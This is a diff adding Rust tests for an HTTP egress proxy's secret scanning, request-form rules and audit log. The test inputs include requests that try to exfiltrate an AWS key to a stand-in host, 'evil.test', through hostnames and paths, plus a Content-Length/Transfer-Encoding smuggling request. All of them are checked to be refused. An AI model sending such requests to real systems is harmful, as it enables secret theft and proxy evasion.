@@ -858,6 +858,12 @@ async fn malformed_heads_on_the_proxy_listener_explain_themselves() {
         let r = r.unwrap_or_else(|| panic!("{what:?}: no answer"));
         assert!(r.refused(400, "protocol"), "{what:?}: {r:?}");
     }
+    assert!(
+        h.wait_for_audit(|l| l["rule"] == "malformed-request" && l["verdict"] == "deny")
+            .await,
+        "{}",
+        h.audit_text()
+    );
     nothing_forwarded(&h);
 }
 
@@ -1366,4 +1372,67 @@ async fn echoed_credential_is_masked_in_an_upgrade_answer() {
     s.write_all(b"GET http://echo.test/upgrade HTTP/1.1\r\nHost: echo.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n").await.unwrap();
     let head = read_head(&mut s).await;
     assert!(!head.contains(TOKEN), "{head}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn secrets_in_refused_targets_never_reach_the_audit_log() {
+    let h = harness().await;
+    // Refused for another reason first (host, path, host mismatch): still no secret logged.
+    let r = connect_raw(
+        &h,
+        format!("CONNECT {AWS_KEY}.evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(r.status, 403, "{r:?}");
+    let req = format!("GET /admin/{AWS_KEY} HTTP/1.1\r\nHost: api.test\r\n\r\n");
+    let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
+    assert_eq!(r.status, 403, "{r:?}");
+    let req = format!("GET /v1/{AWS_KEY} HTTP/1.1\r\nHost: open.test\r\n\r\n");
+    let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
+    assert_eq!(r.status, 403, "{r:?}");
+    let req =
+        format!("GET http://{AWS_KEY}.evil.test/ HTTP/1.1\r\nHost: {AWS_KEY}.evil.test\r\n\r\n");
+    let r = send_plain(&h, req.as_bytes()).await.unwrap();
+    assert_eq!(r.status, 403, "{r:?}");
+    let req = format!("GET {AWS_KEY} HTTP/1.1\r\nHost: api.test\r\n\r\n");
+    let r = send_plain(&h, req.as_bytes()).await.unwrap();
+    assert_eq!(r.status / 100, 4, "{r:?}");
+    let req = format!(
+        "GET /v1/{AWS_KEY} HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+    );
+    let _ = send_tunnel(&h, req.as_bytes()).await;
+    let req = format!("{AWS_KEY} http://plain.test/ok/x HTTP/1.1\r\nHost: plain.test\r\n\r\n");
+    let r = send_plain(&h, req.as_bytes()).await.unwrap();
+    assert!(r.refused(403, "secret-scan"), "{r:?}");
+    assert!(
+        h.wait_for_audit(|l| l["rule"] == "content-length-with-transfer-encoding")
+            .await
+    );
+    let audit = h.audit_text();
+    assert!(!audit.contains(AWS_KEY), "{audit}");
+    nothing_forwarded(&h);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn odd_target_forms_inside_a_tunnel() {
+    let h = harness().await;
+    // The `host:port` form belongs to CONNECT alone.
+    for req in [
+        &b"GET open.test:443 HTTP/1.1\r\nHost: open.test\r\n\r\n"[..],
+        b"GET open.test HTTP/1.1\r\nHost: open.test\r\n\r\n",
+    ] {
+        let mut tls = h.tunnel("open.test:443", "open.test").await.unwrap();
+        let r = send(&mut tls, req).await.unwrap();
+        assert!(r.refused(400, "protocol"), "{r:?}");
+        assert_eq!(r.rule(), "authority-form-without-connect");
+    }
+    nothing_forwarded(&h);
+    // `OPTIONS *` is forwarded as it is.
+    let mut tls = h.tunnel("open.test:443", "open.test").await.unwrap();
+    let r = send(&mut tls, b"OPTIONS * HTTP/1.1\r\nHost: open.test\r\n\r\n")
+        .await
+        .unwrap();
+    assert_eq!(r.status, 200, "{r:?}");
+    assert_eq!(h.tls.requests()[0].path, "*");
 }
